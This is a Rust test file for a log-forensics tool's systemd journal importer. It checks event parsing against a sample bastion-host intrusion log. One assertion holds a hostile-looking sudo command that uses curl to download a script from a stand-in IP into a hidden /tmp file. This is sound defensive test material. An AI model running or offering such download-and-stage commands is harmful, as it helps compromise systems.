//! The systemd journal as `journalctl -o json` exports it (the hand-made sample in
//! `sample-data/journal/`).

use tideline::ingest::ImportOptions;
use tideline::time::format_micros;
use tideline::Case;

use crate::util::{golden, sample, Dir};
use crate::web::{attrs, by_line, case_with, golden_lines, import};

const JOURNAL: &str = "journal/bastion-01.journal.json";

#[test]
fn journal_export_has_14_events_and_the_cut_last_entry_as_an_issue() {
    let dir = Dir::new();
    let (case, s) = case_with(&dir, &sample(JOURNAL));
    assert_eq!(s.format.as_deref(), Some("journal_json"));
    assert_eq!((s.events, s.issues, s.skipped), (14, 1, 0));
    assert_eq!(s.first_ts.as_deref(), Some("2026-03-14T02:10:58.441920Z"));
    assert_eq!(s.last_ts.as_deref(), Some("2026-03-14T03:14:05.360311Z"));
    let issue = &case.issues(10).unwrap()[0];
    assert_eq!(issue.locator, "line 15");
    assert!(
        issue
            .reason
            .starts_with("not valid JSON (EOF while parsing"),
        "{}",
        issue.reason
    );
    assert!(issue.raw.starts_with(b"{\"__CURSOR\":\"s=6f1d"));
    golden(
        "journal_json-sample.jsonl",
        &golden_lines(by_line(&case).values()),
    );
}

#[test]
fn journal_entries_fill_the_canonical_columns() {
    let dir = Dir::new();
    let (case, _) = case_with(&dir, &sample(JOURNAL));
    let events = by_line(&case);

    let e = &events[&5];
    assert_eq!(e.ts, Some(1_773_456_697_640_215));
    assert_eq!(e.ts_source.as_deref(), Some("1773456697640215"));
    assert_eq!(e.ts_quality, "exact");
    assert_eq!(e.host.as_deref(), Some("bastion-01"));
    assert_eq!(e.process.as_deref(), Some("sshd"));
    assert_eq!(e.severity.as_deref(), Some("info"));
    assert_eq!(
        (e.user.as_deref(), e.src_ip.as_deref(), e.action.as_deref()),
        (Some("deploy"), Some("203.0.113.45"), Some("auth_success"))
    );
    let a = attrs(e);
    assert_eq!(a["_PID"], "45790");
    assert_eq!(a["auth_method"], "password");
    assert!(a["__CURSOR"].as_str().unwrap().starts_with("s=6f1d"));
    for used in [
        "__REALTIME_TIMESTAMP",
        "_HOSTNAME",
        "SYSLOG_IDENTIFIER",
        "PRIORITY",
        "MESSAGE",
    ] {
        assert!(a.get(used).is_none(), "{used} is a column, not an attr");
    }

    // sudo: the user, the target user and the command, as syslog reads them.
    let e = &events[&8];
    assert_eq!(
        (e.user.as_deref(), e.action.as_deref()),
        (Some("deploy"), Some("sudo"))
    );
    assert_eq!(attrs(e)["target_user"], "root");
    assert_eq!(
        attrs(e)["command"],
        "/usr/bin/curl -fsSL http://198.51.100.7/x.sh -o /tmp/.x.sh"
    );
    assert_eq!(e.severity.as_deref(), Some("notice"));

    // The kernel firewall line: addresses from SRC= and DST=.
    let e = &events[&1];
    assert_eq!(
        (
            e.src_ip.as_deref(),
            e.dst_ip.as_deref(),
            e.action.as_deref()
        ),
        (
            Some("192.0.2.77"),
            Some("10.20.0.5"),
            Some("firewall_block")
        )
    );
    assert_eq!(e.severity.as_deref(), Some("warning"));

    // No SYSLOG_IDENTIFIER: _COMM is the process; a byte-array message decoded lossily.
    let e = &events[&9];
    assert_eq!(e.process.as_deref(), Some(".x.sh"));
    assert_eq!(
        e.message,
        "archiving /srv/exports/caf\u{fffd}-menu.tar (Latin-1 name)"
    );

    // A multi-line message is one line; a null message stays in attrs.
    assert!(events[&10]
        .message
        .starts_with("Traceback (most recent call last):   File"));
    assert!(!events[&10].message.contains('\n'));
    assert_eq!(events[&11].message, "");
    assert_eq!(attrs(&events[&11])["MESSAGE"], serde_json::Value::Null);
}

#[test]
fn the_same_ssh_login_reads_the_same_from_the_journal_and_from_syslog() {
    let dir = Dir::new();
    let (journal, _) = case_with(&dir, &sample(JOURNAL));
    let from_journal = by_line(&journal)[&5].clone();

    let file = dir.path("auth.log");
    std::fs::write(
        &file,
        "Mar 14 02:51:37 bastion-01 sshd[45790]: Accepted password for deploy from 203.0.113.45 port 53122 ssh2\n",
    )
    .unwrap();
    let mut syslog = Case::create(&dir.path("s.tideline"), "s", "t").unwrap();
    let opts = ImportOptions {
        year: Some(2026),
        ..Default::default()
    };
    import(&mut syslog, &file, &opts);
    let from_syslog = by_line(&syslog)[&1].clone();

    let columns = |e: &tideline::store::EventRecord| {
        (
            e.host.clone(),
            e.user.clone(),
            e.src_ip.clone(),
            e.process.clone(),
            e.action.clone(),
            e.message.clone(),
            attrs(e)["auth_method"].clone(),
        )
    };
    assert_eq!(columns(&from_journal), columns(&from_syslog));
    assert_eq!(
        from_syslog.ts.map(format_micros).as_deref(),
        Some("2026-03-14T02:51:37.000000Z")
    );
}
